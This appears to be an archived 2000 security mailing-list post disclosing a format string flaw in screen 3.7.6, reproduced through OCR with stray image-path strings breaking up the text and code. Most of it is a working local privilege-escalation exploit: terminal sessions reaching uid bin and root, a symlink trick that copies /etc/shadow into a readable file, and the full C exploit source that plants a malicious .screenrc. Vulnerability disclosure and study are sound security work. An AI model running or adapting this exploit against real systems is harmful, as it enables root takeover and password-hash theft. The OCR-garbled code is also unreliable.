Neohapsis is currently accepting applications for employment. For more information, please visit our website www.neohapsis.com or email hr@neohapsis.com
Subject: Screen-3.7.6 local compromise
From: Paul Starzetz (paulSTARZETZ.DE)
Date: Wed Sep 06 2000 - 01:46:50 CDT

Hi ppl,

as mentioned in other postings the screen package is vulnerbale to the
classic format string attack. I attached a simple exploit and as far as
I could investigate on Suse 6.1 with screen 3.7.6:

the vulnerable function is Msg(int err, char *fmt, ...) which is invoked
with the value of the vbell_msg from .screenrc. Unfortunatelly the
format string is never copied onto stack, so I looked for the contents
of the stack before calling Msg(0, VisualBellString). It seems that the
'buf' variable in main() contains the current working directory from
which we called screen (get screen source, compile and replace Msg(0,
VisualBellString) with a small stack dumping function...). So all we
need is to mkdir a directory containing the write address, consume some
arguments from the stack and let screen overwrite the real_uid variable
and then create a new shell with our uid.

so lets look at the stack inside Msg(...) after calling screen from a
directory containing "ABCDEFGHIJ...":

4000bc74 1 8049e90 0 0 0 0 0 0 0 0 0 0 0 80995a8 0 0 bfffe4b8 ffffffff 0
bffff942 7ff 0 bffff942 0 0 0 0 00 0 ffffffff 0 0 0 0 ffffffff ffffffff
ffffffff ffffffff ffffffff ffffffff ffffffff ffffffff ffffffff ffffffff
0 0 301 0 0 2fb2 41c0 2 1f464 0 0 0 400 1000 2 39b572f1 0 39b5a058 0
39b5a058 0 0 0 75610700 6870406c 696e656f 752f3a78 682f7273 2f656d6f
6c756170 706d742f 63732f32 70786572 4342412f 47464544 4b4a4948 4f4e4d4c
53525150 57565554 5c5a5958 5d5c5c5b 605f5e5c 64636261 660d6665 6a696867
6e6d6c6b 7271706f

4342412f is it (prefixed by parent dir), the padding seems to be 3 for
my constelation...

so we try it now with padding set to 3, buffer offset 324 and uidaddr

gcc expl.c
a.out 0
<screen comes up> <enter> <ctrl-g> <status line shows strange chars like
<ctrl-a> <ctrl-c>uid=500(paul) gid=100(users) groups=100(users)

hm...lets kill it. Try now:

a.out 64
shell-init: could not get current directory: getcwd: cannot access
parent direct
ories: Permission denied
bash: /home/paul/.bashrc: Permission denied
I have no name!phoenix:/usr/home/paul/tmp2/screxp > id
uid=255 gid=100(users) groups=100(users)

W00w, we hit the uid seems, 255 is the number of chars written by
vsnprintf. It looks like:

OFF 64 65 66 67
UID f4 01 00 00
%n ff 00 00 00

why not shift it by 1 to the left?

a.out 63
<same> after <ctrl-c>:[screen caught signal 11.]
paulphoenix:/usr/home/paul/tmp2/screxp >

bad :-(, but we can still grab /etc/shadow (any idea to avoid this damn

a.out 63
<screen comes up> <enter> <ctrl-g> <staus line with strange output> but
try now:

paulphoenix:~/tmp2/screen-3.7.6 > ln -s /etc/shadow /tmp/screen-xchg

<ctrl-a ctrl-< > status says: Slurped 1142 characters into buffer,very nice....

paulphoenix:~/tmp2/screen-3.7.6 > rm /tmp/screen-xchg
paulphoenix:~/tmp2/screen-3.7.6 > touch /tmp/screen-xchg

and again ctrl a ctrl > Copybuffer written to "/tmp/screen-xchg".

paulphoenix:~/tmp2/screen-3.7.6 > ls -l /tmp
total 10
-rw-r--r-- 1 paul users 1142 Sep 6 08:16 screen-xchg

paulphoenix:~/tmp2/screen-3.7.6 > cat /tmp/screen-xchg

Oh no it works.....

Note that you can get uid bin (1) if you replace the 'strcat(buf,
"%.0d");' with 'strcat(buf, "%.d");' because vsprintf writes then
256+ characters. With so modified version of expl.c:

paulphoenix:/usr/home/paul/tmp2/screxp > gcc expl.c
paulphoenix:/usr/home/paul/tmp2/screxp > a.out 63
<screen welcome> <enter> <ctrl-g> <ctrl-c>
shell-init: could not get current directory: getcwd: cannot access
parent direct
ories: Permission denied
bash: /home/paul/.bashrc: Permission deniedbinphoenix:/usr/home/paul/tmp2/screxp > id
uid=1(bin) gid=100(users) groups=100(users)
binphoenix:/usr/home/paul/tmp2/screxp >

now create a suid bin shell.......

I have also a working but unstable root exploit and I wonder why it
works because it theoretically shouldn't work...

paulphoenix:/usr/home/paul/tmp2/screxp > gcc screxpl.c
paulphoenix:/usr/home/paul/tmp2/screxp > a.out 63

<screen ...> <ctrl-g> <ctrl-c>
ˇ\[ˇ\[ˇ\[ # idome/paul/tmp2/screxp/pppˇ\[ˇ\[ˇ\[ˇ\[ˇ\[ź
uid=0(root) gid=100(users)groups=100(users)
ˇ\[ˇ\[ˇ\[ # cp /bin/bash .2/screxp/pppˇ\[ˇ\[ˇ\[ˇ\[ˇ\[ź
ˇ\[ˇ\[ˇ\[ # chmod u+s bash2/screxp/pppˇ\[ˇ\[ˇ\[ˇ\[ˇ\[ź
ˇ\[ˇ\[ˇ\[ # ls -l/paul/tmp2/screxp/pppˇ\[ˇ\[ˇ\[ˇ\[ˇ\[ź
total 481
dr-xr--r-x 2 paul users 1024 Sep 6 08:33 .
drwxr-xr-x 18 paul users 12288 Sep 6 08:32 ..
-rwsr-xr-x 1 root users 475348 Sep 6 08:33 bash

(sorry the term got confused :-) So now we have a suid root bash....

regards, IhaQueR

Disclaimer: Any resemblance between the above views and those of my
employer, my terminal, or the view out my window are purely
coincidental.  Any resemblance between the above and my own views is
non-deterministic.  The question of the existence of views in the
absence of anyone to hold them is left as an exercise for the reader.
The question of the existence of the reader is left as an exercise for
the second god coefficient.  (A discussion of non-orthogonal,
non-integral polytheism is beyond the scope of this article.)

--- expl.c ---

/*** * * * Screen 3.7.6 (and others) local exploit *

* by IhaQueRIRCnet * * * ***/

#include <stdio.h> #include <sys/stat.h> #include <sys/types.h> #include <fcntl.h> #include <unistd.h> #include <string.h>

#define TMPBUFSIZE 4096

#define SCREENRC "/usr/home/paul/.screenrc" #define SCREEN "/usr/bin/screen"

#define AREP 1 #define BUFOFFSET 324 #define PADDING 3 #define WRITEADDR 0x807beb4

// someoffsets grabbed from 3.7.6 // &real_uid, &real_gid, &eff_uid, &eff_gid own_uid // 0x807beb4 0x807ab1c 0x807aab0 0x807aab4 0x807bea4 // + 64 +64

int main(int argc, char** argv) { int i, l; FILE* fp; char buf[TMPBUFSIZE]; unsigned charadr[(AREP+2)*sizeof(unsigned)]; unsigned char* cp; unsigned a, *p;

if(argc != 2) { printf("USAGE %s offset\n", argv[0]); return 0; }

l = atoi(argv[1]); printf("creating magic string\n");

bzero(buf, TMPBUFSIZE);

/* consume stack arguments */ for(i=0; i<BUFOFFSET/4; i++) strcat(buf, "%.0d");

/* finally write to adress */ // for(i=0;i<9; i++) strcat(buf, "%n");

if(fp = fopen(SCREENRC, "w")) { fprintf(fp, "vbell on\n"); fprintf(fp, "vbell_msg '%s'\n", buf); fprintf(fp, "vbellwait 11111\n"); fclose(fp); } else { printf("ERROR: opening %s\n", SCREENRC); }

/* now create the magic dir... */ bzero(adr, (AREP+2)*sizeof(unsigned)); cp = adr; for(i=0; i<PADDING; i++) { *cp = 'p'; cp++; }

p = (unsigned*) cp;

a = WRITEADDR;a = a + l;

for(i=0; i<AREP; i++) { *p = a; // a += 4; p++; }

*p = 0;

/* make dirand call screen */ mkdir((char*)adr,0x777); chdir((char*)adr);argv[1] = NULL; execv(SCREEN, argv); }